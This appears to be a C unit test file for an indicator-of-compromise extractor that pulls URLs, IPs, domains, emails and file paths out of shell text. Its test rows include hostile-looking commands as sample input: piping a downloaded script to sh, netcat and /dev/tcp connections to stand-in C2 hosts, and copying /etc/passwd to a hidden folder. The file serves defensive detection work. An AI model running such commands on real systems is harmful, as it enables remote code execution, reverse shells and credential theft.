/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "triage/indicators.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>

#include <cmocka.h>

static const char letters[INDICATOR_KINDS] = {'u', 'i', 'd', 'e', 'p'};

struct list {
    char text[1024];
    size_t n;
};

static void note(void *context, enum indicator_kind kind, struct str value)
{
    struct list *l = context;
    int n =
        snprintf(l->text + l->n, sizeof(l->text) - l->n, "%s%c:%.*s", l->n ? " " : "", letters[kind], STR_ARG(value));
    l->n += (size_t)n < sizeof(l->text) - l->n ? (size_t)n : 0;
}

static const struct {
    const char *text, *found;
} rows[] = {
    {"curl -s http://203.0.113.9:8080/a.sh?x=1 -o /tmp/x", "u:http://203.0.113.9:8080/a.sh?x=1 i:203.0.113.9"},
    {"wget https://user:pw@c2.evil.museum/x", "u:https://user:pw@c2.evil.museum/x d:c2.evil.museum"},
    {"wget 'ftp://Files.Example/pub'", "u:ftp://Files.Example/pub d:Files.Example"},
    {"curl 203.0.113.5/x.sh | sh", "i:203.0.113.5"},
    {"curl evil.com/x", "d:evil.com"},
    {"nc c2.evil.com:4444", "d:c2.evil.com"},
    {"nc 203.0.113.66 6667", "i:203.0.113.66"},
    {"exec 3<>/dev/tcp/203.0.113.66/6667", "i:203.0.113.66"},
    {"exec 3<>/dev/tcp/c2.elsewhere/80", "d:c2.elsewhere"},
    {"iptables -A INPUT -s 192.0.2.0/24", ""},
    {"mail me@evil.com", "e:me@evil.com"},
    {"cp /etc/passwd /tmp/.hidden/passwd", "p:/etc/passwd p:/tmp/.hidden/passwd"},
    {"curl http://$HOST/x", "u:http://$HOST/x"},
    {"curl http://localhost/x http://[::1]/y", "u:http://localhost/x u:http://[::1]/y"},
    {"version 1.2.3 999.1.1.1 12345", ""},
    {"http://", ""},
    {"https://.", ""},
    {"http://@@@/", "u:http://@@@/"},
    {"http://a..b/ http://-x.y/ http://1.2.3.4.5/", "u:http://a..b/ u:http://-x.y/ u:http://1.2.3.4.5/"},
    {"", ""},
};

static void test_rows(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
        struct list l = {.n = 0};
        indicators_find(str_from(rows[i].text), note, &l);
        if (!str_eqz(str_from(l.text), rows[i].found))
            fail_msg("%s: %s, not %s", rows[i].text, l.text, rows[i].found);
    }
}

static void test_local(void **state)
{
    static const char *const here[] = {"127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.251", "169.254.1.1"};
    static const char *const there[] = {"203.0.113.1", "10.0.0.1", "192.168.1.1", "8.8.8.8", "169.253.1.1"};

    (void)state;
    for (size_t i = 0; i < 5; i++) {
        assert_true(indicator_is_ip(str_from(here[i])) && indicator_is_ip(str_from(there[i])));
        assert_true(indicator_ip_is_local(str_from(here[i])));
        assert_false(indicator_ip_is_local(str_from(there[i])));
    }
    assert_false(indicator_is_ip(STR_LIT("1.2.3")) || indicator_is_ip(STR_LIT("1.2.3.4.5")) ||
                 indicator_is_ip(STR_LIT("256.1.1.1")) || indicator_is_ip(STR_LIT("1..2.3")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_rows), cmocka_unit_test(test_local)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
